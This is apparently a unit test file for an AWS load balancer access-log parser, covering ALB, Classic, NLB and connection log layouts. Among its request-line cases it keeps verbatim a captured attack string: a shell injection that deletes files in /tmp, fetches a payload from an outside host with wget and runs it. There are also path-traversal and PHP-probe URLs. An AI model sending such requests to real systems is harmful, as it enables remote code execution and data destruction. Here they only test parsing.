import { expect } from 'chai';
import { parseLine } from '../../../../functions/elb-processor/core/parse';
import type { AlbDocument, ClassicDocument, ConnectionDocument, LineResult, NlbDocument } from '../../../../functions/elb-processor/core/types';
import {
  ALB_2016, ALB_2020_UNQUOTED_LISTS, ALB_FULL_FIELDS, albWith, albWithFields, CLASSIC_2014, CLASSIC_HTTP, CLASSIC_NOT_DISPATCHED, CLASSIC_TCP,
  CONN_11_FAILED, CONN_12, CONN_13, NLB_V1, NLB_V2,
} from '../../../../fixtures/elb/lines';

function doc<T>(line: string): T {
  const r = parseLine(line);
  if (r.kind !== 'doc') throw new Error(`expected a document, got ${JSON.stringify(r)}`);
  return r.doc as T;
}

function failure(line: string): string {
  const r = parseLine(line);
  if (r.kind !== 'failed') throw new Error(`expected a failure, got ${r.kind}`);
  return r.reason;
}

/** The ALB field (AWS name) each of the 33 positions fills, as our document names it. */
const ALB_FIELD_AT: Record<number, keyof AlbDocument> = {
  19: 'domain_name', 20: 'chosen_cert_arn', 21: 'matched_rule_priority', 22: 'request_creation_time', 23: 'actions_executed',
  24: 'redirect_url', 25: 'error_reason', 26: 'target_port_list', 27: 'target_status_code_list', 28: 'classification',
  29: 'classification_reason', 30: 'conn_trace_id', 31: 'transformed_host', 32: 'transformed_uri', 33: 'request_transform_status',
};

describe('elb parser: ALB access logs', () => {
  it('reads every field of the 33-field layout with AWS names and types', () => {
    // Given the AWS doc HTTPS example with every field filled
    const d = doc<AlbDocument>(ALB_FULL_FIELDS.join(' '));
    // Then each field is in place, split and typed
    expect(d).to.deep.equal({
      type: 'https', time: '2018-07-02T22:23:00.186641Z', elb: 'app/my-loadbalancer/50dc6c495c0c9188',
      client_ip: '192.168.131.39', client_port: 2817, target_ip: '10.0.0.1', target_port: 80,
      request_processing_time: 0.086, target_processing_time: 0.048, response_processing_time: 0.037,
      elb_status_code: 200, target_status_code: 200, received_bytes: 0, sent_bytes: 57,
      request: 'GET https://www.example.com:443/ HTTP/1.1', request_method: 'GET', request_url: 'https://www.example.com:443/', request_protocol: 'HTTP/1.1',
      user_agent: 'curl/7.46.0', ssl_cipher: 'ECDHE-RSA-AES128-GCM-SHA256', ssl_protocol: 'TLSv1.2',
      target_group_arn: 'arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067',
      trace_id: 'Root=1-58337281-1d84f3d73c47ec4e58577259', domain_name: 'www.example.com',
      chosen_cert_arn: 'arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012',
      matched_rule_priority: 1, request_creation_time: '2018-07-02T22:22:48.364000Z', actions_executed: ['waf', 'authenticate', 'forward'],
      redirect_url: 'https://www.example.com:443/moved', error_reason: 'LambdaInvalidResponse',
      target_port_list: ['10.0.0.1:80', '10.0.0.2:80'], target_status_code_list: [200, 503],
      classification: 'Ambiguous', classification_reason: 'SpaceInUri', conn_trace_id: 'TID_1234abcd5678ef90',
      transformed_host: 'rewritten.example.com', transformed_uri: '/rewritten/path', request_transform_status: 'TransformSuccess',
    });
  });

  it('reads every layout from 18 to 33 fields: known fields set, later ones absent, nothing shifted', () => {
    for (let n = 18; n <= 33; n++) {
      // Given the line cut after field n (a layout AWS wrote at some point)
      const d = doc<AlbDocument>(ALB_FULL_FIELDS.slice(0, n).join(' '));
      // Then fields up to n are present and every later field is absent
      expect(d.trace_id, `n=${n}`).to.equal('Root=1-58337281-1d84f3d73c47ec4e58577259');
      for (const [pos, name] of Object.entries(ALB_FIELD_AT)) {
        if (Number(pos) <= n) expect(d[name], `n=${n} ${name}`).to.not.equal(undefined);
        else expect(d[name], `n=${n} ${name}`).to.equal(undefined);
      }
    }
  });

  it('ignores unknown trailing fields (an extra `-`, quoted words) without shifting known ones', () => {
    const full = doc<AlbDocument>(ALB_FULL_FIELDS.join(' '));
    expect(doc<AlbDocument>(`${ALB_FULL_FIELDS.join(' ')} - "new field" 42`)).to.deep.equal(full);
    // A 29-field line followed by values that are not a TID (igtm test): none of them is read as conn_trace_id
    const d = doc<AlbDocument>(`${ALB_FULL_FIELDS.slice(0, 29).join(' ')} "FOO BAR" BAZ`);
    expect(JSON.stringify(d)).to.not.match(/FOO BAR|BAZ/);
    expect(d.conn_trace_id).to.equal(undefined);
  });

  it('reads the 2016 layout (unquoted domain and cert) and the 2020 unquoted target lists', () => {
    const d16 = doc<AlbDocument>(ALB_2016);
    expect(d16.domain_name).to.equal('www.example.com');
    expect(d16.chosen_cert_arn).to.equal('arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012');
    expect(d16.request_creation_time).to.equal(undefined);
    const d20 = doc<AlbDocument>(ALB_2020_UNQUOTED_LISTS);
    expect(d20.target_port_list).to.deep.equal(['10.0.0.1:80']);
    expect(d20.target_status_code_list).to.deep.equal([200]);
  });

  it('applies the sentinel policy: `-` and -1 times omitted, 0 kept, matched_rule_priority -1 kept', () => {
    // Given a request that was never dispatched (AWS doc: -1 times, `-` target and target status)
    const d = doc<AlbDocument>(albWithFields({ 5: '-', 6: '-1', 7: '-1', 8: '-1', 10: '-', 21: '-1' }));
    expect(d.target_ip).to.equal(undefined);
    expect(d.target_port).to.equal(undefined);
    expect(d.request_processing_time).to.equal(undefined);
    expect(d.target_processing_time).to.equal(undefined);
    expect(d.response_processing_time).to.equal(undefined);
    expect(d.target_status_code).to.equal(undefined);
    expect(d.received_bytes).to.equal(0);
    expect(d.matched_rule_priority).to.equal(-1);
    // And a `-` matched_rule_priority, `""` actions and `"-"` lists are absent
    const e = doc<AlbDocument>(albWithFields({ 21: '-', 23: '""', 26: '"-"', 27: '"-"' }));
    expect([e.matched_rule_priority, e.actions_executed, e.target_port_list, e.target_status_code_list]).to.deep.equal([undefined, undefined, undefined, undefined]);
  });

  it('splits client and target with IPv6 addresses, bracketed or not', () => {
    const plain = doc<AlbDocument>(albWithFields({ 4: '2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc:50599', 5: 'fd6d:6bbc:c529:6::face:ed83:f46:80' }));
    expect([plain.client_ip, plain.client_port, plain.target_ip, plain.target_port]).to.deep.equal(['2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc', 50599, 'fd6d:6bbc:c529:6::face:ed83:f46', 80]);
    const bracketed = doc<AlbDocument>(albWith(4, '[fe80::202:b3ff:fe1e:8329]:443'));
    expect([bracketed.client_ip, bracketed.client_port]).to.deep.equal(['fe80::202:b3ff:fe1e:8329', 443]);
  });

  it('splits malformed request lines AWS writes into method, URL and version, keeping the whole', () => {
    const cases: [string, [string | undefined, string | undefined, string | undefined]][] = [
      ['"- http://www.example.com:80- -"', [undefined, 'http://www.example.com:80-', undefined]],
      ['"- - -"', [undefined, undefined, undefined]],
      ['"- http://internal-service-alb.example.com:80-/ "', [undefined, 'http://internal-service-alb.example.com:80-/', undefined]],
      ['"GET https://example.com HTTP/2.0"', ['GET', 'https://example.com', 'HTTP/2.0']],
      ['"GET http://myalb.example.com:80/ HTTP/1.0 "', ['GET', 'http://myalb.example.com:80/', 'HTTP/1.0']],
      ['"SSTP_DUPLEX_POST https://10.100.10.100:443/sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/ HTTP/1.1"', ['SSTP_DUPLEX_POST', 'https://10.100.10.100:443/sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/', 'HTTP/1.1']],
      ['"--location https://example.com/ HTTP/2.0"', ['--location', 'https://example.com/', 'HTTP/2.0']],
      ['"GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1"', ['GET', 'http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws', 'HTTP/1.1']],
    ];
    for (const [request, [method, url, protocol]] of cases) {
      const d = doc<AlbDocument>(albWith(13, request));
      expect([d.request_method, d.request_url, d.request_protocol], request).to.deep.equal([method, url, protocol]);
      expect(d.request, request).to.equal(request.slice(1, -1));
    }
  });

  it('decodes \\xHH runs that are printable UTF-8, keeps the rest verbatim, and unescapes \\"', () => {
    const ua = (v: string) => doc<AlbDocument>(albWith(14, v)).user_agent;
    expect(ua('"\\x22Mozilla/5.0 (iPhone)\\x22"')).to.equal('"Mozilla/5.0 (iPhone)"');
    expect(ua('"\\xEC\\x97\\x90\\xEC\\x9D\\xB4\\xEC\\xA0\\x84\\xED\\x8A\\xB8"')).to.equal('에이전트');
    expect(ua('"\\x00000022Mozilla"')).to.equal('\\x00000022Mozilla');
    expect(ua('"\\xFF\\xFEbad"')).to.equal('\\xFF\\xFEbad');
    expect(ua('"\\"quoted\\"-agent"')).to.equal('"quoted"-agent');
    // `\"` before a space ends the field: AWS escapes quotes as \x22, so that backslash is the field's last character
    expect(ua('"ends with \\"')).to.equal('ends with \\');
    expect(doc<AlbDocument>(albWith(13, '"GET http://h:80/..\\x5C..\\x5Cwindows HTTP/1.1"')).request_url).to.equal('http://h:80/..\\..\\windows');
    expect(doc<AlbDocument>(albWith(13, '"POST http://10.0.0.30:80/index.php?s=/index/\\a\\app HTTP/1.1"')).request_url).to.equal('http://10.0.0.30:80/index.php?s=/index/\\a\\app');
  });

  it('survives whitespace anomalies: runs of spaces, a missing space after a quote, a leading space in the SNI', () => {
    const base = doc<AlbDocument>(ALB_FULL_FIELDS.join(' '));
    expect(doc<AlbDocument>(ALB_FULL_FIELDS.join(' ').replace('https ', 'https    '))).to.deep.equal(base);
    expect(doc<AlbDocument>(ALB_FULL_FIELDS.join(' ').replace('123456789012" 1 ', '123456789012"1 '))).to.deep.equal(base);
    expect(doc<AlbDocument>(albWith(19, '" www.example.com"')).domain_name).to.equal('www.example.com');
    const ua = doc<AlbDocument>(albWith(14, '"Mobile/15E148  Safari//x"')).user_agent;
    expect(ua).to.equal('Mobile/15E148  Safari//x');
  });

  it('uses request_creation_time (arrival) as the timestamp, and `time` for layouts without it', () => {
    const r = parseLine(ALB_FULL_FIELDS.join(' ')) as Extract<LineResult, { kind: 'doc' }>;
    expect(r.timestamp).to.equal('2018-07-02T22:22:48.364000Z');
    const old = parseLine(ALB_2016) as Extract<LineResult, { kind: 'doc' }>;
    expect(old.timestamp).to.equal('2016-08-10T23:39:43.065466Z');
  });
});

describe('elb parser: Classic, NLB and connection logs', () => {
  it('reads Classic HTTP, TCP (`"- - - "`), 2014 and not-dispatched lines', () => {
    expect(doc<ClassicDocument>(CLASSIC_HTTP)).to.deep.equal({
      time: '2015-05-13T23:39:43.945958Z', elb: 'my-loadbalancer', client_ip: '192.168.131.39', client_port: 2817, backend_ip: '10.0.0.1', backend_port: 80,
      request_processing_time: 0.000073, backend_processing_time: 0.001048, response_processing_time: 0.000057, elb_status_code: 200, backend_status_code: 200,
      received_bytes: 0, sent_bytes: 29, request: 'GET http://www.example.com:80/ HTTP/1.1', request_method: 'GET', request_url: 'http://www.example.com:80/',
      request_protocol: 'HTTP/1.1', user_agent: 'curl/7.38.0', ssl_cipher: undefined, ssl_protocol: undefined,
    });
    const tcp = doc<ClassicDocument>(CLASSIC_TCP);
    expect([tcp.elb_status_code, tcp.backend_status_code, tcp.request, tcp.request_method, tcp.request_url, tcp.request_protocol, tcp.user_agent])
      .to.deep.equal([undefined, undefined, '- - - ', undefined, undefined, undefined, undefined]);
    const old = doc<ClassicDocument>(CLASSIC_2014);
    expect([old.request_url, old.user_agent, old.ssl_cipher]).to.deep.equal(['http://www.example.com:80/', undefined, undefined]);
    const nd = doc<ClassicDocument>(CLASSIC_NOT_DISPATCHED);
    expect([nd.backend_ip, nd.request_processing_time, nd.backend_status_code, nd.sent_bytes]).to.deep.equal([undefined, undefined, 0, 0]);
  });

  it('reads NLB v1.0 and v2.0 lines: ms integers, ALPN list, zone-less times as UTC', () => {
    const v1 = doc<NlbDocument>(NLB_V1);
    expect(v1).to.deep.include({ type: 'tls', version: '1.0', time: '2018-12-20T02:59:40Z', elb: 'net/my-network-loadbalancer/c6e77e28c25b2234', listener: 'g3d4b5e8bb8464cd',
      client_ip: '72.21.218.154', client_port: 51341, destination_ip: '172.100.100.185', destination_port: 443, connection_time: 5, tls_handshake_time: 2,
      received_bytes: 98, sent_bytes: 246, tls_cipher: 'ECDHE-RSA-AES128-SHA', tls_protocol_version: 'tlsv12',
      domain_name: 'my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com', alpn_fe_protocol: undefined });
    const r = parseLine(NLB_V2) as Extract<LineResult, { kind: 'doc' }>;
    const v2 = r.doc as NlbDocument;
    expect([v2.alpn_fe_protocol, v2.alpn_be_protocol, v2.alpn_client_preference_list, v2.tls_connection_creation_time])
      .to.deep.equal(['h2', 'h2', ['h2', 'http/1.1'], '2020-04-01T08:51:20Z']);
    // The timestamp is the connection start when the layout has it
    expect(r.timestamp).to.equal('2020-04-01T08:51:20Z');
    // `\"`-escaped ALPN items (integrations fixture) and a `-` handshake time
    const odd = doc<NlbDocument>(NLB_V2.replace('"h2","http/1.1"', '\\"http/1.1\\"').replace(' 5 2 98 ', ' 0 - 98 '));
    expect([odd.alpn_client_preference_list, odd.connection_time, odd.tls_handshake_time]).to.deep.equal([['http/1.1'], 0, undefined]);
  });

  it('reads connection logs with 11, 12 and 13 fields, splitting the certificate validity', () => {
    const c12 = doc<ConnectionDocument>(CONN_12);
    expect(c12).to.deep.equal({
      time: '2023-10-04T17:05:15.514108Z', client_ip: '203.0.113.1', client_port: 36280, listener_port: 443, tls_protocol: 'TLSv1.2',
      tls_cipher: 'ECDHE-RSA-AES128-GCM-SHA256', tls_handshake_latency: 4.036, leaf_client_cert_subject: 'CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US',
      leaf_client_cert_validity: 'NotBefore=2023-09-21T22:43:21Z;NotAfter=2026-06-17T22:43:21Z', leaf_client_cert_not_before: '2023-09-21T22:43:21Z',
      leaf_client_cert_not_after: '2026-06-17T22:43:21Z', leaf_client_cert_serial_number: 'FEF257372D5C14D4', tls_verify_status: 'Success',
      conn_trace_id: 'TID_3180a73013c8ca4bac2f731159d4b0fe', tls_keyexchange: undefined,
    });
    const c11 = doc<ConnectionDocument>(CONN_11_FAILED);
    expect([c11.tls_handshake_latency, c11.tls_verify_status, c11.conn_trace_id]).to.deep.equal([undefined, 'Failed:ClientCertUntrusted', undefined]);
    expect(doc<ConnectionDocument>(CONN_13).tls_keyexchange).to.equal('X25519');
  });
});

describe('elb parser: lines that are not log entries', () => {
  it('fails malformed lines with a reason naming what is wrong', () => {
    expect(failure('h2 2024-05-28T13:34:14.804475Z')).to.equal('alb: expected at least 18 fields, got 2');
    expect(failure(albWith(9, 'OK'))).to.equal('elb_status_code: expected an integer, got "OK"');
    expect(failure(albWith(6, '0.0.1'))).to.equal('request_processing_time: expected a number, got "0.0.1"');
    expect(failure(albWith(4, '192.168.131.39'))).to.equal('client:port: expected ip:port, got "192.168.131.39"');
    expect(failure(albWith(22, '2018-07-02T22:22:48+01:00'))).to.equal('request_creation_time: expected an ISO 8601 timestamp, got "2018-07-02T22:22:48+01:00"');
    expect(failure(albWith(14, 'curl'))).to.equal('alb: field 14 (user_agent) must be quoted, got "curl"');
    expect(failure('http 2018-07-02T22:23:00.186641Z app/x "GET')).to.equal('unterminated quoted field starting at column 40');
    expect(failure('invalid 2018-07-02T22:23:00.186641Z app/x')).to.equal('unknown log type: first field "invalid"');
    expect(failure('2014-10-08T00:20:2#Z #189.164.112.148:24586')).to.equal('unknown log type: first field "2014-10-08T00:20:2#Z"');
    expect(failure(NLB_V1.replace(' 98 ', ' many '))).to.equal('received_bytes: expected a number, got "many"');
  });

  it('recognises blank lines and AWS control text', () => {
    expect(parseLine('').kind).to.equal('blank');
    expect(parseLine('   ').kind).to.equal('blank');
    expect(parseLine('Enable AccessLog for ELB: app/elb-name/abc123456 at 2025-05-30T16:47:00.781Z').kind).to.equal('control');
  });
});
